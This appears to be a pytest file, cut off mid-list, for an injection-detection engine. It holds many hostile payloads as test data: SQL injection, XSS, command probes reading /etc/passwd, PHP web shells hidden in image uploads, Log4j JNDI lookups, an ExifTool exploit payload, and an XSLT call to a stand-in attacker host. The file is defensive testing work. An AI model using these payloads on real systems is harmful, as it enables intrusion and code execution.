def test_a_redirects_url_then_a_header_of_any_name_counts_in_a_query(engine: Engine) -> None:
    """A value that is a URL and then, on a line of its own, a header of any name splits a
    redirect's response (wapiti's probe); a line of text after a URL in a body field is
    the text's, and in a query a URL inside a sentence is no redirect's target."""
    probe = "http://www.google.fr\r\nwapiti: 3.3.2 version"
    assert "crlf" in _types(engine, Request("GET", "/go?to=" + quote(probe, safe="")))
    sentence = "see https://example.com/a\r\nNote: it moved"
    assert _types(engine, Request("GET", "/go?to=" + quote(sentence, safe=""))) == set()
    body = json.dumps({"text": probe.replace("wapiti", "Note")}).encode()
    posted = Request("POST", "/notes", (("Content-Type", "application/json"),), body)
    assert _types(engine, posted) == set()


EVENT = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Apple Inc.//macOS 14.0//EN\r\n"
    "X-WR-CALNAME:Work\r\nBEGIN:VEVENT\r\nUID:5f1c@example.com\r\n"
    "DTSTART:20261205T100000Z\r\nSUMMARY:Planning\r\nLOCATION:Room 1\\, Floor 2\r\n"
    "URL:https://meet.example.com/abc\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)


def test_a_calendars_event_and_a_contact_card_are_their_own_lines(engine: Engine) -> None:
    """A CalDAV or CardDAV client `PUT`s an iCalendar or vCard object, lines broken by CRLF,
    each a property named as a header is (`LOCATION:`, `X-WR-CALNAME:`): its own lines, as
    a mail message's are. Its lines in a text that opens no such object count, and so does
    the object in a query."""
    calendar = (("Content-Type", "text/calendar; charset=utf-8"),)
    request = Request(
        "PUT", "/remote.php/dav/calendars/ana/work/5f1c.ics", calendar, EVENT.encode()
    )
    assert _types(engine, request) == set()
    card = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana\r\nX-SOCIALPROFILE:ana\r\nEND:VCARD\r\n"
    request = Request("PUT", "/card/ana.vcf", (("Content-Type", "text/vcard"),), card.encode())
    assert _types(engine, request) == set()
    lines = EVENT.removeprefix("BEGIN:VCALENDAR\r\n").encode()  # no calendar's object
    request = Request("PUT", "/remote.php/dav/calendars/ana/work/5f1c.ics", calendar, lines)
    assert "crlf" in _types(engine, request)
    assert "crlf" in _types(engine, Request("GET", "/cal?e=" + quote(EVENT, safe="")))


@pytest.mark.parametrize(
    ("value", "attack"),
    [
        ("test\nid", True),
        ("test\r\npwd", True),
        ("test\nsleep 5", True),
        ("test\necho vulnerable", True),
        ("abc\nenv;", True),  # wapiti's
        ("Thanks.\nps", False),  # a postscript
        ("test\nset", False),
        ("test; echo vulnerable", False),  # after a word, a separator is a sentence's
    ],
)
def test_a_probe_after_a_word_in_a_value_of_one_line(
    engine: Engine, value: str, attack: bool
) -> None:
    """A word, a line break and a probe: a value a person types on one line (the target,
    a header) has no second line of text, a text field's has."""
    found = _types(engine, Request("GET", "/api/items?q=" + quote(value, safe="")))
    assert ("rce" in found) is attack
    header = _types(engine, Request("GET", "/", (("X-Note", quote(value, safe="")),)))
    assert ("rce" in header) is attack
    body = json.dumps({"comment": {"text": value}}).encode()
    request = Request("POST", "/api/comments", (("Content-Type", "application/json"),), body)
    assert "rce" not in _types(engine, request)


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("x\\r\\nSet-Cookie: admin=1", "crlf"),  # written as a JSON or JavaScript string
        ('"victim@x.example"\\r\\nBcc: a@b.example', "mail_injection"),
        ('printf("%s\\n", name);', None),
        ("C:\\temp\\new folder\\readme.txt", None),
        ("line one\\nline two\\n", None),
    ],
)
def test_escaped_line_breaks(engine: Engine, value: str, kind: str | None) -> None:
    """`\\r\\n` escapes are line breaks to the JSON or JavaScript layer that decodes them:
    a header injected that way is found as if the breaks were real."""
    found = _types(engine, Request("GET", "/api/items?q=" + quote(value, safe="")))
    assert found == ({kind} if kind else set())


def test_escaped_line_breaks_in_a_snippet_of_code_are_a_string_literal(engine: Engine) -> None:
    """In a document (a post with a snippet of code), a `\\r\\n` escape is code's string
    literal, whatever header it spells; a value that is the escaped header alone is not."""
    snippet = (
        "Here is how the server in chapter 21 writes its response to the stream:\n\n"
        "    let length = contents.len();\n"
        "    let response = format!(\n"
        '        "{status_line}\\r\\nContent-Length: {length}\\r\\n\\r\\n{contents}");\n'
        "    stream.write_all(response.as_bytes()).unwrap();\n\n"
        "The length header tells the browser how many bytes of the body to expect."
    )
    for value, found in ((snippet, set()), ("x\\r\\nSet-Cookie: admin=1", {"crlf"})):
        body = json.dumps({"post": {"body": value}}).encode()
        request = Request("POST", "/api/posts", (("Content-Type", "application/json"),), body)
        assert _types(engine, request) == found


def _escaped(text: str, charset: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode(charset))


@pytest.mark.parametrize("charset", ["ibm037", "ibm500", "cp875", "utf-16"])
def test_a_declared_charset_is_read_as_the_application_reads_it(
    engine: Engine, charset: str
) -> None:
    """IIS reads a form posted with `charset=ibm037` in EBCDIC: %4C%A2… is `<s…`. The
    escapes and a JSON body are read in the charset too."""
    form = f"{_escaped('q', charset)}={_escaped('<script>alert(1)</script>', charset)}"
    content_type = f"application/x-www-form-urlencoded; charset={charset}"
    request = Request("POST", "/", (("Content-Type", content_type),), form.encode())
    assert {(h.type.value, h.point) for h in engine.scan(request)} >= {("xss", "post.form.q")}
    body = json.dumps({"id": "1' OR '1'='1"}).encode(charset)
    content_type = f"application/json; charset={charset}"
    request = Request("POST", "/", (("Content-Type", content_type),), body)
    assert ("sqli", "post.json.id") in {(h.type.value, h.point) for h in engine.scan(request)}


def test_a_declared_charset_hides_nothing_and_accuses_nothing(engine: Engine) -> None:
    """An application that ignores the charset reads the bytes as they are: a payload in
    plain ASCII under `charset=ibm037` is found; an EBCDIC form without one is clean."""
    content_type = "application/x-www-form-urlencoded; charset=ibm037"
    plain = Request("POST", "/", (("Content-Type", content_type),), b"q=%3Cscript%3Ealert(1)")
    assert "xss" in _types(engine, plain)
    name = "Renée O'Brien, 12 Baker St."
    clean = f"{_escaped('name', 'ibm037')}={_escaped(name, 'ibm037')}"
    request = Request("POST", "/", (("Content-Type", content_type),), clean.encode())
    assert _types(engine, request) == set()


@pytest.mark.parametrize(
    ("disposition", "found"),
    [
        # RFC 5987 parameters, which RFC 6266 lets win over the plain ones.
        ("name=\"f\"; filename*=UTF-8''shell%2Ephp", {("rce", "post.multipart.f.filename")}),
        (
            'name="f"; filename="a.txt"; filename*=UTF-8\'\'shell.php',
            {("rce", "post.multipart.f.filename")},
        ),
        ("name*=UTF-8''%3Cscript%3Ex", {("xss", "post.multipart._script_x.@key")}),
        # A parameter no parser names is still read.
        (
            'name="f"; filename="x.jpg" onerror="alert(1)"',
            {("xss", "post.multipart.f.header.CONTENT-DISPOSITION")},
        ),
        ('name="avatar"; filename="O\'Brien CV (1).pdf"', set()),
    ],
)
def test_multipart_disposition_parameters(
    engine: Engine, disposition: str, found: set[tuple[str, str]]
) -> None:
    body = (
        f"--XX\r\nContent-Disposition: form-data; {disposition}\r\n"
        "Content-Type: text/plain\r\n\r\nhello\r\n--XX--\r\n"
    ).encode()
    headers = (("Content-Type", "multipart/form-data; boundary=XX"),)
    hits = engine.scan(Request("POST", "/upload", headers, body))
    assert found <= {(h.type.value, h.point) for h in hits}
    assert bool(hits) == bool(found)


def _part(boundary: str) -> bytes:
    return (
        f'--{boundary}\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
        f"<script>alert(1)</script>\r\n--{boundary}--\r\n"
    ).encode()


@pytest.mark.parametrize(
    ("content_types", "body", "point"),
    [
        (["multipart/form-data; boundary=NOPE"], _part("B"), "post.multipart.q.xml.script"),
        (
            ["multipart/form-data; boundary=A; boundary=B"],
            _part("B"),
            "post.multipart.q.xml.script",
        ),
        (
            ["multipart/form-data; boundary=B", "multipart/form-data; boundary=A"],
            _part("B"),
            "post.multipart.q.xml.script",
        ),
        (
            ["multipart/form-data; boundary=NOPE"],
            b"--<script>alert(1)</script>\r\n",
            "post.multipart.text",
        ),
        (
            ["application/x-www-form-urlencoded", "application/json"],
            b"q=%3Cscript%3Ealert(1)",
            "post.form.q",
        ),
    ],
)
def test_a_body_is_parsed_as_every_reading_says(
    engine: Engine, content_types: list[str], body: bytes, point: str
) -> None:
    """Parsers differ on which of two boundaries or two Content-Types wins, and a boundary
    the body does not use must hide nothing: every reading is parsed."""
    headers = tuple(("Content-Type", value) for value in content_types)
    found = {(h.type.value, h.point) for h in engine.scan(Request("POST", "/", headers, body))}
    assert ("xss", point) in found


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (b"cd+%2F%3Bcd+etc%3Bcomm+passwd+passwd%0A", "cd /;cd etc;comm passwd passwd\n"),
        (b"; cat /etc/passwd", "; cat /etc/passwd"),
        (b"sleep 5 & id", "sleep 5 & id"),  # no field in it either
        (b"q=; cat /etc/passwd", None),  # a form: its field is the value
        (b"\r\n", None),
        (b"", None),
    ],
)
def test_a_form_without_a_field_is_read_whole(
    engine: Engine, body: bytes, text: str | None
) -> None:
    """`curl -d '…'` declares any text a form: a body with no `=` in it holds no field,
    and the application reads it whole (`php://input`); its first name, for a form
    parser, is read as a name too."""
    request = Request("POST", "/", FORM, body)
    points = dict(extract(request, Limits(), frozenset()).items)
    assert points.get("post.text") == text
    found = {h.point for h in engine.scan(request) if h.type.value == "rce"}
    assert ("post.text" in found) == (text is not None)


@pytest.mark.parametrize(
    ("headers", "body", "point"),
    [
        (
            [("Content-Type", "application/xml")],
            "<r><q>&lt;script&gt;alert(1)</q></r>".encode("utf-16-le"),  # no mark, no charset
            "post.xml.r.q",
        ),
        (
            [("Content-Type", "application/json"), ("Content-Encoding", "gzip, gzip")],
            gzip.compress(gzip.compress(b'{"q": "<script>alert(1)</script>"}')),
            "post.json.q",
        ),
        (
            [("Content-Type", "application/json"), ("Content-Encoding", "deflate")],
            zlib.compress(b'{"q": "<script>alert(1)</script>"}')[2:-4],  # raw, headerless
            "post.json.q",
        ),
    ],
)
def test_bodies_are_read_as_their_bytes_say(
    engine: Engine, headers: list[tuple[str, str]], body: bytes, point: str
) -> None:
    """UTF-16 told by its bytes alone, every content coding listed, deflate without its
    zlib header: as servers that accept them read the body."""
    found = {
        (h.type.value, h.point) for h in engine.scan(Request("POST", "/", tuple(headers), body))
    }
    assert ("xss", point) in found


@pytest.mark.parametrize("encoding", ["IBM037", "IBM500", "IBM1047"])
def test_an_xml_body_is_read_in_the_encoding_it_declares(engine: Engine, encoding: str) -> None:
    """Java's and .NET's parsers read an XML document in EBCDIC when its declaration says
    so (and by its first bytes): a payload a filter reading ASCII sees as noise."""
    document = f'<?xml version="1.0" encoding="{encoding}"?><r><q>\' OR 1=1--</q></r>'
    request = Request("POST", "/", (("Content-Type", "application/xml"),), document.encode("cp037"))
    assert ("sqli", "post.xml.r.q") in {(h.type.value, h.point) for h in engine.scan(request)}


@pytest.mark.parametrize("encoding", ["EUC-JP", "Shift_JIS", "GB2312", "KOI8-R", "windows-1251"])
def test_an_xml_body_in_its_declared_encoding_is_its_text(engine: Engine, encoding: str) -> None:
    """A feed in EUC-JP read as Latin-1 (then 7-bit, where ¼ and ¾ turn up) spells anything;
    as its declaration says, it is words. The bytes are read too where they hold ASCII the
    declared reading does not (`Shift_JIS` hides `|` and letters in its second bytes)."""
    words = {
        "EUC-JP": "日本語のニュース、今日の天気は晴れです。",
        "Shift_JIS": "日本語のニュース、今日の天気は晴れです。",
        "GB2312": "今天的新闻，天气晴朗，“很好”。",
    }.get(encoding, "Новости дня: сегодня солнечно и тепло, двадцать пять градусов.")
    feed = f'<?xml version="1.0" encoding="{encoding}"?><rss><title>{words}</title></rss>'
    request = Request(
        "POST", "/", (("Content-Type", "application/rss+xml"),), feed.encode(encoding)
    )
    values = [value for point, value in extract(request, Limits()) if point == "post.xml.rss.title"]
    # Shift_JIS writes ASCII letters as the second bytes of its characters: read as bytes too.
    assert values[0] == words and len(values) == (2 if encoding == "Shift_JIS" else 1)
    attack = feed.replace("</rss>", "<q>1' OR '1'='1</q></rss>")
    request = Request(
        "POST", "/", (("Content-Type", "application/rss+xml"),), attack.encode(encoding)
    )
    assert "sqli" in _types(engine, request)


@pytest.mark.parametrize("encoding", ["gbk", "big5", "shift_jis", "euc_jp", "euc_kr"])
def test_a_legacy_east_asian_encoding_read_as_latin1_spells_nothing(
    engine: Engine, encoding: str
) -> None:
    """Chinese, Japanese or Korean in a legacy encoding, percent-encoded in a query, is read
    as Latin-1 (no UTF-8): all of it Latin-1's upper half, which seven bits wide spells
    anything (Big5's 了二十 was `$F$G$Q`), and letters a parameter's name is not made of
    (`\n¼۸ñ=` was GBK's 价格=). A payload that sets the high bit on a few characters for a
    parser that drops it counts (`¼script¾`)."""
    words = "了二十年前的价格是多少？\n价格=100元" if encoding != "euc_kr" else "가격\n가격=100원"
    raw = words.encode(encoding, "ignore")
    assert _types(engine, Request("GET", "/a?q=" + quote(raw, safe=""))) == set()
    payload = quote("¼script¾alert(¢XSS¢)¼/script¾".encode("latin-1"), safe="")
    assert "xss" in _types(engine, Request("GET", "/a?q=" + payload))


@pytest.mark.parametrize(
    ("declared", "used", "kind"),
    [
        ("' O", "<q>&a;R 1=1--</q>", "sqli"),
        ("&#60;svg on", '<q n="&a;load=confirm`1`"/>', "xss"),  # an attribute's
        ("${jn", "<q>&a;di:ldap://x.example/a}</q>", "rce"),
    ],
)
def test_a_payload_split_among_internal_entities_is_read_whole(
    engine: Engine, declared: str, used: str, kind: str
) -> None:
    """A parser puts an entity's text where a reference to it is: a payload split between a
    declaration and a text reads whole to the application, none of it in one place."""
    document = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{declared}">]><r>{used}</r>'
    request = Request("POST", "/", (("Content-Type", "application/xml"),), document.encode())
    assert kind in _types(engine, request)


def test_internal_entities_are_expanded_as_declared_and_no_further() -> None:
    """An entity refers to those declared before it; the first declaration of a name binds;
    XML's own five are not redeclared; an unknown reference is left as it is."""
    document = (
        '<!DOCTYPE r [<!ENTITY b "B"><!ENTITY a \'A&b;\'><!ENTITY b "C"><!ENTITY lt "x">]>'
        "<r><q>&a;&b;&lt;&c;</q></r>"
    )
    request = Request("POST", "/", (("Content-Type", "application/xml"),), document.encode())
    assert ("post.xml.r.q", "ABB<&c;") in extract(request, Limits()).items


def test_a_bodys_tail_that_opens_in_a_tag_breaks_out_of_nothing(engine: Engine) -> None:
    """A long body's tail starts where 64 KB before its end falls, in a page's markup too:
    `"><code>` there is the end of a tag, not a value broken out of one (rule 2013)."""
    tail = ('"><code>x</code>' + "x=1;" * 20_000)[:65_536]
    body = ("filler " * 20_000 + tail).encode()
    assert engine.scan(Request("POST", "/n", (("Content-Type", "text/plain"),), body)) == []
    short = Request("POST", "/n", (("Content-Type", "text/plain"),), tail[:300].encode())
    assert [hit.rule for hit in engine.scan(short)] == [2013]


def test_xml_bytes_read_as_bytes_too_are_read_as_utf8(engine: Engine) -> None:
    """Big5's second bytes are ASCII letters, so a Cantonese blog's feed is read as bytes
    too; read as Latin-1, `\xa4F\xa4G\xa4Q` (了二十) was `¤F¤G¤Q`, and seven bits wide
    (where `¼` and `¾` turn up) `$F$G$Q`, a shell's variables. As UTF-8 they are no
    characters at all."""
    chinese = bytes([0xA4, 0x46, 0xA4, 0x47, 0xA4, 0x51, 0xBC, 0x40, 0xBE, 0x40])
    body = b'<?xml version="1.0" encoding="Big5"?><feed><p>' + chinese + b"</p></feed>"
    assert _types(engine, Request("POST", "/", (("Content-Type", "text/xml"),), body)) == set()


def test_xml_bytes_an_encoding_hides_are_read_as_bytes_too() -> None:
    """In Shift_JIS `\\x81|` is one character; an application that ignores the declaration
    reads a `|` there, so the bytes are parsed as well."""
    body = b'<?xml version="1.0" encoding="Shift_JIS"?><r><q>x\x81| cat /etc/passwd</q></r>'
    values = [
        value
        for point, value in extract(
            Request("POST", "/", (("Content-Type", "text/xml"),), body), Limits()
        )
        if point == "post.xml.r.q"
    ]
    assert len(values) == 2 and any("| cat" in value for value in values)


@pytest.mark.parametrize("content_type", ["text/xml; charset=utf-16", "text/xml"])
def test_a_utf16_body_is_not_accused_for_its_nuls(engine: Engine, content_type: str) -> None:
    """Every `)` of UTF-16 is followed by a NUL byte; a .NET client's SOAP call is no
    injection for it."""
    soap = (
        '<?xml version="1.0" encoding="utf-16"?><soap:Envelope xmlns:soap='
        '"http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Get><id>42</id>'
        "<note>Deliver to the back door (ring twice), thanks!</note></Get></soap:Body>"
        "</soap:Envelope>"
    )
    request = Request("POST", "/svc", (("Content-Type", content_type),), soap.encode("utf-16"))
    assert _types(engine, request) == set()


@pytest.mark.parametrize(
    "content_type", ["application/octet-stream", "image/png", "application/zip", None]
)
def test_a_file_sent_as_it_is_is_data_not_text(engine: Engine, content_type: str | None) -> None:
    """A raw upload (PUT /files/x, an image or an archive) read as text spells an attack
    somewhere in two bodies of three; it is data, searched only for server-side code."""
    rng = random.Random(3)
    headers = (("Content-Type", content_type),) if content_type else ()
    for size in (2048, 8192, 32768) * 8:
        assert _types(engine, Request("PUT", "/files/x", headers, rng.randbytes(size))) == set()


@pytest.mark.parametrize(
    ("body", "content_type", "found"),
    [
        (
            b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 3 + b"<?php system($_GET[1]); ?>",
            "image/png",
            ("rce", "post.code"),
        ),
        (b"q=1' OR '1'='1 -- x", "application/octet-stream", ("sqli", "post.text")),
        # A Java object stream, as JBoss's JMXInvokerServlet takes it: no text, no base64
        (
            b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet\xbaD\x85\x95\x96\xb8\xb74\x03\x00"
            b"\x00xpw\x0c\x00\x00\x00\x02?@\x00\x00\x00\x00\x00\x01sr\x00\x0cjava.net.URL",
            "application/x-java-serialized-object",
            ("rce", "post.code"),
        ),
        ("汉字".encode() * 200 + b" <script>alert(1)</script>", None, ("xss", "post.text")),
    ],
)
def test_what_a_file_sent_as_it_is_can_carry_is_found(
    engine: Engine, body: bytes, content_type: str | None, found: tuple[str, str]
) -> None:
    """Server-side code in data, text under a data type, any script's text as text."""
    headers = (("Content-Type", content_type),) if content_type else ()
    hits = engine.scan(Request("PUT", "/files/x", headers, body))
    assert found in {(h.type.value, h.point) for h in hits}


def test_hit_names_point_rule_and_fragment(engine: Engine) -> None:
    body = json.dumps({"user": {"name": "x' UNION SELECT password FROM users--"}}).encode()
    request = Request("POST", "/api", (("Content-Type", "application/json"),), body)
    (hit,) = engine.scan(request)
    assert (hit.type.value, hit.point, hit.rule) == ("sqli", "post.json.user.name", 1001)
    assert "UNION SELECT" in hit.fragment


def test_a_lookup_in_code_a_text_shows_is_found_whole(engine: Engine) -> None:
    """Log4j resolves a lookup in a message's inline code too; the hit shows it from its
    `$`, as it was sent."""
    text = (
        "The release notes are long and we read them twice. Please see"
        " `${jndi:ldap://x.example/a}` in the log of the service we run."
    )
    body = json.dumps({"comment": text}).encode()
    request = Request("POST", "/api", (("Content-Type", "application/json"),), body)
    (hit,) = engine.scan(request)
    assert (hit.type.value, hit.point, hit.rule) == ("rce", "post.json.comment", 3009)
    assert hit.fragment.startswith("${jndi:ldap://x.example/a}")


def _token(header: str, claims: str) -> str:
    def section(text: str) -> str:
        return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")

    return f"{section(header)}.{section(claims)}.c2lnbmF0dXJl"


def test_token_sections_are_points_and_a_key_named_twice_is_not_lost(engine: Engine) -> None:
    """A JWT's header is read before its signature is checked (`kid` names the key): a
    `kid` named twice, which a parser may take the first of, is scanned whatever it holds."""
    token = _token(
        '{"alg": "HS256", "kid": "../../../../etc/passwd", "kid": "k1"}', '{"sub": "42"}'
    )
    hits = engine.scan(Request("GET", "/", (("Authorization", f"Bearer {token}"),)))
    assert ("ptrav", "header.AUTHORIZATION.jwt.header.kid") in {
        (h.type.value, h.point) for h in hits
    }
    benign = _token('{"alg": "HS256", "kid": "k1"}', '{"sub": "42", "name": "Ann"}')
    assert engine.scan(Request("GET", "/", (("Authorization", f"Bearer {benign}"),))) == []


@pytest.mark.parametrize(
    ("uri", "point", "fragment"),
    [
        # The quote an injection closes is where it starts: in a path, its segment.
        ("/api/users/1%27%20or%201=1--/profile", "path.2", "1' or 1=1--/profile"),
        ("/api/users/7/orders/x%22%20or%20%221%22=%221", "path.4", 'x" or "1"="1'),
        ("/login?user=admin%27--", "query.user", "admin'--"),
        # Form-encoded spaces read as spaces keep every offset: still its segment.
        ("/post/foo/9%27union+all/bar", "path.2", "9'union+all/bar"),
        ("/search?q=" + "a" * 40 + "%27%20or%201=1--", "query.q", "a" * 32 + "' or 1=1--"),
    ],
)
def test_sqli_hit_shows_where_the_literal_is_closed(
    engine: Engine, uri: str, point: str, fragment: str
) -> None:
    (hit,) = engine.scan(Request("GET", uri))
    assert (hit.type.value, hit.point, hit.fragment) == ("sqli", point, fragment)


def test_an_objects_configuration_that_calls_its_constructor(engine: Engine) -> None:
    """Yii's configuration of an object (Craft CMS's CVE-2023-41892) calls its constructor
    with the arguments a `__construct()` key holds: a JSON document's key, not a word."""
    config = {"as x": {"class": "Imagick", "__construct()": {"files": "vid:msl:/tmp/php*"}}}
    body = json.dumps({"action": "conditions/render", "config": config}).encode()
    request = Request("POST", "/index.php", (("Content-Type", "application/json"),), body)
    assert {(hit.type.value, hit.rule) for hit in engine.scan(request)} == {("rce", 3007)}
    assert engine.scan(Request("GET", "/search?q=__construct%28%29")) == []


@pytest.mark.parametrize(
    ("request_", "point"),
    [
        (Request("GET", "/files/..%2f..%2f..%2fetc%2fpasswd"), "path.1"),
        (
            Request("GET", "/", (("Cookie", "a=1; session=<script>alert(1)</script>"),)),
            "cookie.session",
        ),
        (Request("GET", "/", (("User-Agent", "sqlmap/1.7.2#stable"),)), "header.USER-AGENT"),
        (Request("GET", "/?a[b]=1&%3Cscript%3E=1"), "query.<script>.@key"),
        (
            Request(
                "POST",
                "/upload",
                (("Content-Type", "multipart/form-data; boundary=XX"),),
                b'--XX\r\nContent-Disposition: form-data; name="avatar"; filename="shell.php"'
                b"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--XX--\r\n",
            ),
            "post.multipart.avatar",
        ),
        (
            Request(
                "POST",
                "/upload",
                (("Content-Type", "multipart/form-data; boundary=XX"),),
                b'--XX\r\nContent-Disposition: form-data; name="avatar"; filename="a.gif"'
                b"\r\nContent-Type: image/gif\r\n\r\nGIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff"
                b"\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00<?php eval($_POST[1]); ?>\r\n--XX--\r\n",
            ),
            "post.multipart.avatar.code",  # a web shell behind an image header
        ),
        (
            Request(
                "POST",
                "/uploads/user",
                (("Content-Type", "multipart/form-data; boundary=XX"),),
                b'--XX\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"'
                b"\r\nContent-Type: image/jpeg\r\n\r\nAT&TFORM\x00\x00\x03\xafDJVMDIRM\x00\x00\x00."
                b"\x81\x00\x02\x00\x00\x00F\x00\x00\x00\xac\xff\xff\xde\xbf\x99 !\xc8\x91N\xeb"
                b'ANTa\x00\x00\x01P(metadata\n\t(Copyright "\\\n" . qx{echo x >/tmp/x} . \\\n" b '
                b'") )\n\r\n--XX--\r\n',
            ),
            "post.multipart.file.code",  # ExifTool's DjVu metadata (CVE-2021-22205)
        ),
        (
            Request(
                "POST",
                "/soap",
                (("Content-Type", "text/xml"),),
                b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="a.txt"/></r>',
            ),
            "post.xml.r.@xmlns:xi",
        ),
        (
            Request(
                "POST",
                "/soap",
                (("Content-Type", "text/xml"),),
                b'<xsl:transform version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
                b"<xsl:value-of select=\"document('http://evil.example/')\"/></xsl:transform>",
            ),
            "post.xml.xsl:transform.@xmlns:xsl",
        ),
        (
            Request(
                "POST",
                "/api",
                (("Content-Type", "application/json"),),
                b'{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
            ),
            "post.json.$type",
        ),
        (
            Request(
                "POST",
                "/api",
                (("Content-Type", "application/json"),),
                b'{"constructor": {"prototype": {"isAdmin": true}}}',
            ),
            "post.json.constructor.prototype.@key",
        ),
        (
            Request(
                "POST",
                "/o",
                (("Content-Type", "text/xml"),),
                b'<order id="1 UNION SELECT 1,2--"><n>ok</n></order>',
            ),
            "post.xml.order.@id",
        ),
        # Character references are not separators: the application decodes them.
        (Request("GET", "/?q=&#x27;&#x20;OR&#x20;1=1--"), "query.q"),
        # A JSON key named twice: a parser that keeps the first value sees the payload.
        (
            Request(
                "POST",
                "/api",
                (("Content-Type", "application/json"),),
                b'{"q": "<script>alert(1)</script>", "q": "safe"}',
            ),
            "post.json.q",
        ),
        # And so inside a nested object or an array, at any depth.
        (
            Request(
                "POST",
                "/api",
                (("Content-Type", "application/json"),),
                b'{"user": {"name": "<script>alert(1)</script>", "name": "safe"}}',
            ),
            "post.json.user.name",
        ),
        (
            Request(
                "POST",
                "/api",
                (("Content-Type", "application/json"),),
                b'[{"a": [{"q": "1\' UNION SELECT password FROM users--", "q": "x"}]}]',
            ),
            "post.json.0.a.0.q",
        ),
        # What a lenient multipart parser reads past the RFC: before the first delimiter,
        # after the close one, and parts after the close.
        (
            Request(
                "POST",
                "/upload",
                (("Content-Type", "multipart/form-data; boundary=XX"),),
                b"<script>alert(1)</script>\r\n--XX\r\n"
                b'Content-Disposition: form-data; name="a"\r\n\r\n1\r\n--XX--\r\n',
            ),
            "post.multipart.@preamble",
        ),
        (
            Request(
                "POST",
                "/upload",
                (("Content-Type", "multipart/form-data; boundary=XX"),),
                b'--XX\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--XX--\r\n'
                b"<script>alert(1)</script>",
            ),
            "post.multipart.@epilogue",
        ),
        (
            Request(
                "POST",
                "/upload",
                (("Content-Type", "multipart/form-data; boundary=XX"),),
                b'--XX\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--XX--\r\n'
                b'--XX\r\nContent-Disposition: form-data; name="b"\r\n\r\n'
                b"1' UNION SELECT password FROM users--\r\n--XX--\r\n",
            ),
            "post.multipart.b",
        ),
        # A payload split between two values of one name is whole where they are joined.
        (Request("GET", "/?id=1%20UNION/*&id=*/SELECT%201,2--"), "query.id"),
        # Nor is a `#` the end of what the application reads.
        (Request("GET", "/search?q=1#' UNION SELECT password FROM users--"), "query.q"),
        (Request("GET", "/page#%3Cscript%3Ealert(1)%3C/script%3E"), "fragment"),
        # A JSON object in base64, as pagination cursors and OAuth states are.
        (
            Request(
                "GET",
                "/items?cursor=eyJhZnRlciI6ICIxIFVOSU9OIFNFTEVDVCBwYXNzd29yZCBGUk9NIHVzZXJzLS0ifQ==",
            ),
            "query.cursor.base64.json.after",
        ),
        (
            Request(
                "GET",
                "/",
                (
                    (
                        "Cookie",
                        "prefs=eyJhZnRlciI6ICIxIFVOSU9OIFNFTEVDVCBwYXNzd29yZCBGUk9NIHVzZXJzLS0ifQ==",
                    ),
                ),
            ),
            "cookie.prefs.base64.json.after",
        ),
        # An attribute value may hold a `>`: the tag does not end there.
        (
            Request(
                "POST",
                "/",
                (("Content-Type", "application/xml"),),
                b"<order><item note=\"1' AND ASCII(SUBSTRING((SELECT password FROM users),1,1))"
                b'>64--"/></order>',
            ),
            "post.xml.order.item.@note",
        ),
        # JSON as lenient parsers read it (Json.NET by default): comments, single quotes,
        # bare names, a comma before a closing bracket.
        (
            Request(
                "POST",
                "/api",
                (("Content-Type", "application/json"),),
                b'{/* note */ "q": "1 AND 1=1",}',
            ),
            "post.json.q",
        ),
        (
            Request(
                "POST",
                "/api",
                (("Content-Type", "application/json"),),
                b"{user: {name: 'x\\' OR 1=1-- -'}, // a comment\n}",
            ),
            "post.json.user.name",
        ),
        # A YAML document's scalars, named for their keys: quoted, plain, in a block.
        (
            Request(
                "POST",
                "/apply",
                (("Content-Type", "application/yaml"),),
                b"spec:\n  user:\n    name: '1'' OR ''1''=''1'\n    age: 3\n",
            ),
            "post.yaml.spec.user.name",
        ),
        (
            Request(
                "POST",
                "/apply",
                (("Content-Type", "application/x-yaml"),),
                b'items:\n  - "<svg onload=alert(1)>"\n',
            ),
            "post.yaml.items",
        ),
        (
            Request(
                "POST",
                "/apply",
                (("Content-Type", "text/yaml"),),
                b"kind: Job\nnote: |\n  ok\n  ;cat /etc/passwd\nage: 3\n",
            ),
            "post.yaml.note",
        ),
        (
            Request(
                "POST",
                "/apply",
                (("Content-Type", "application/yaml"),),
                b'q: "<script>alert(1)</script>" # a comment\n',
            ),
            "post.yaml.q",
        ),
        # A CSV upload's cells, named for their row and column; quotes in quotes doubled.
        (
            Request(
                "POST",
                "/import",
                (("Content-Type", "text/csv"),),
                b'id,name,email\r\n1,"1"" OR ""1""=""1",a@b.example\r\n',
            ),
            "post.csv.1.name",
        ),
        (
            Request(
                "POST",
                "/import",
                (("Content-Type", "text/tab-separated-values"),),
                b"7\tx\t1' AND SLEEP(5)-- -\n",
            ),
            "post.csv.0.2",
        ),
        # Basic credentials, a user and a password, as a login form's fields.
        (
            Request(
                "GET",
                "/",
                (("Authorization", "Basic " + base64.b64encode(b"admin:' OR 1=1--").decode()),),
            ),
            "header.AUTHORIZATION.password",
        ),
        (
            Request(
                "GET", "/", (("Authorization", "Basic " + base64.b64encode(b"a:;id").decode()),)
            ),
            "header.AUTHORIZATION.password",
        ),
        # A cookie's value in double quotes, which most frameworks read without them.
        (Request("GET", "/", (("Cookie", 'lang=en; sid="1 AND 1=1"'),)), "cookie.sid"),
        # A query's pair after a `;`, which Rack before 3, old Go and old Python split at.
        (Request("GET", "/search?a=1;b=1%20OR%201%3D1"), "query.b"),
        # Matrix parameters, which Java frameworks hand over on their own.
